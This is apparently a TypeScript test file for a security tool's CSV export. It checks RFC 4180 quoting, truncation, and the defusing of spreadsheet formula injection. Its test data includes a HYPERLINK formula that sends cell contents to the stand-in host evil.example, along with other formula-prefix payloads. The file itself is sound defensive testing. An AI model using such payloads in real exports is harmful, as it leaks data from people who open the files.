import { describe, expect, it } from 'vitest'
import { CSV_COLUMNS, CSV_MAX_CELL, csvCell, csvHeader, toCsvRow } from '../../src/emit/formats/csv.js'
import { TRUNCATED_MARK } from '../../src/emit/formats/text-limit.js'
import { sampleFinding } from '../support/sample-finding.js'

/** RFC 4180 read strictly: the test's own reader, so what the writer quotes is checked by parsing it back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let i = 0
  while (i < text.length) {
    let cell = ''
    if (text[i] === '"') {
      i++
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote')
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"'
            i += 2
            continue
          }
          i++
          break
        }
        cell += text[i++]
      }
    } else
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`)
        cell += text[i++]
      }
    row.push(cell)
    if (text[i] === ',') i++
    else if (text.startsWith('\r\n', i)) {
      rows.push(row)
      row = []
      i += 2
    } else throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text[i])}`)
  }
  if (row.length > 0) throw new Error('last row has no CRLF')
  return rows
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  'a "quoted" word, and a comma',
  'line one\nline two\r\nline three',
  'Zürich – 東京 – 🙂',
  'plain',
  '',
]

describe('CSV', () => {
  it('has the documented columns in a CRLF header', () => {
    expect(csvHeader()).toBe(`${CSV_COLUMNS.join(',')}\r\n`)
    expect(parseCsv(csvHeader())).toEqual([[...CSV_COLUMNS]])
  })

  it('makes formula prefixes inert with a leading apostrophe and quotes as RFC 4180 says', () => {
    const cells = HOSTILE.map(csvCell)
    const parsed = parseCsv(`${cells.join(',')}\r\n`)[0]!
    expect(parsed).toEqual(HOSTILE.map((s) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s)))
    expect(csvCell('a "b"')).toBe('"a ""b"""')
    expect(csvCell('=1')).toBe("'=1")
    expect(csvCell('x\ny')).toBe('"x\ny"')
  })

  it('writes a finding of hostile strings as one parseable row: every column, no cell a formula', () => {
    const [ua, name, arn, ip, title] = HOSTILE
    const f = sampleFinding({ userAgent: ua!, title: title!, sourceIp: ip!, resource: { type: 'bucket', name: name!, arn: arn! } })
    const rows = parseCsv(csvHeader() + toCsvRow(f))
    expect(rows).toHaveLength(2)
    const byColumn = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]![i]]))
    expect(byColumn).toMatchObject({
      id: f.id,
      userAgent: `'${ua!}`,
      title: `'${title!}`,
      sourceIp: `'${ip!}`,
      resourceName: `'${name!}`,
      resourceArn: `'${arn!}`,
      mitreAttack: 'T1530 T1562.008',
      cis: 'v1.2.0:3.8 v3.0.0:4.8',
      recordIndex: '4',
      details: JSON.stringify(f.details),
    })
    for (const cell of rows[1]!) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('keeps newlines inside quoted cells by default, and passes each cell through the caller’s escaping first', () => {
    const f = sampleFinding({ userAgent: 'a\nb', resource: { type: 'bucket', name: '\t=x', arn: null } })
    expect(parseCsv(toCsvRow(f))[0]![CSV_COLUMNS.indexOf('userAgent')]).toBe('a\nb')
    const escaped = toCsvRow(f, { cell: (s) => s.replace(/[\n\t]/g, (c) => (c === '\n' ? '\\n' : '\\t')) })
    expect(escaped.split('\r\n')).toHaveLength(2)
    expect(parseCsv(escaped)[0]![CSV_COLUMNS.indexOf('userAgent')]).toBe('a\\nb')
    expect(parseCsv(escaped)[0]![CSV_COLUMNS.indexOf('resourceName')]).toBe('\\t=x')
  })

  it('cuts a cell at the spreadsheet limit, visibly', () => {
    const f = sampleFinding({ details: { blob: 'x'.repeat(100_000) } })
    const details = parseCsv(toCsvRow(f))[0]![CSV_COLUMNS.indexOf('details')]!
    expect(details).toHaveLength(CSV_MAX_CELL)
    expect(details.endsWith(TRUNCATED_MARK)).toBe(true)
  })
})
